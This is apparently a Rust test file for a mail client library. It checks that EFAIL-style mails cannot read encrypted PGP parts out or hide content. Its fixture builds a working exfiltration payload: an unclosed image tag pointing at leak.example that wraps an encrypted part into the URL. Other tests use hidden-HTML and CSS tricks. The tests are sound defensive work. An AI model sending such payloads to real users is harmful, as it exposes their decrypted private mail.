//! Mails that would have one part read out another (the EFAIL attacks).

use mailpane::html::article;
use mailpane::mime;

use super::clean;

const SECRET: &str = "-----BEGIN PGP MESSAGE-----";

fn exfiltrating() -> String {
    format!(
        "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n\
         Hello<img src=\"http://leak.example/\r\n--o\r\nContent-Type: application/pgp-encrypted\r\n\r\n\
         {SECRET}\r\n--o\r\nContent-Type: text/html\r\n\r\n\">\r\n--o--\r\n"
    )
}

/// V104: the parts are never one page.
#[test]
fn each_part_is_a_page_of_its_own() {
    let mail = exfiltrating();
    let message = mime::parse_message(mail.as_bytes()).expect("it begins like a mail");
    let shown = mime::choose_text(&message.root).expect("a text");
    let bytes = message.part_bytes(&shown);
    assert!(bytes.starts_with(b"Hello"));
    let html = String::from_utf8_lossy(bytes);
    let page = clean(&html);
    assert!(page.blocked.images.iter().all(|image| !image.contains("BEGIN")), "{:?}", page.blocked);
    assert!(!format!("{:?}", article(&html)).contains("BEGIN"));
}

/// V105: what is encrypted stays so wherever it stands; it is a file.
#[test]
fn an_encrypted_part_anywhere_is_a_file_as_it_came() {
    let hidden = [
        "<div style=\"display:none\">",
        "<p>Fine.</p>\r\n\r\n\r\n\r\n\r\n\r\n",
        "<table><tr><td height=9999>",
    ];
    for before in hidden {
        let mail = format!(
            "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n\
             {before}\r\n--o\r\nContent-Type: message/rfc822\r\n\r\nSubject: in\r\nContent-Type: \
             multipart/encrypted; boundary=p; protocol=\"application/pgp-encrypted\"\r\n\r\n--p\r\n\
             Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--p\r\nContent-Type: \
             application/octet-stream; name=a.asc\r\n\r\n{SECRET}\r\n--p--\r\n--o--\r\n"
        );
        let message = mime::parse_message(mail.as_bytes()).expect("it begins like a mail");
        let shown = mime::choose_text(&message.root).expect("a text");
        assert!(!String::from_utf8_lossy(message.part_bytes(&shown)).contains(SECRET));
        let files = mime::attachments(&message.root);
        assert!(!files.is_empty(), "{before}");
    }
}

/// V106: rules for print or for other windows change nothing of what is read as text.
#[test]
fn what_is_read_does_not_depend_on_the_window() {
    let html = "<style>.a{color:red}@media print{.a{display:none}}@media (max-width:400px){.b{display:none}}\
        @supports (x:y){.a{display:none}}.b:nth-child(2):hover{display:none}</style>\
        <p class=a>I agree.</p><p class=b>I do not agree.</p>";
    let told = format!("{:?}", article(html));
    assert!(told.contains("I agree.") && told.contains("I do not agree."), "{told}");
    let mail = format!("Content-Type: text/html\r\n\r\n{html}");
    let message = mime::parse_message(mail.as_bytes()).expect("it begins like a mail");
    let shown = mime::choose_text(&message.root).expect("a text");
    let part = message.root.find(&shown).expect("it is there");
    let bytes = message.part_bytes(&shown);
    let text = mime::decode_text(part, bytes, bytes.len() as u64, false).text;
    assert!(text.contains("I agree.") && text.contains("I do not agree."), "{text}");
}
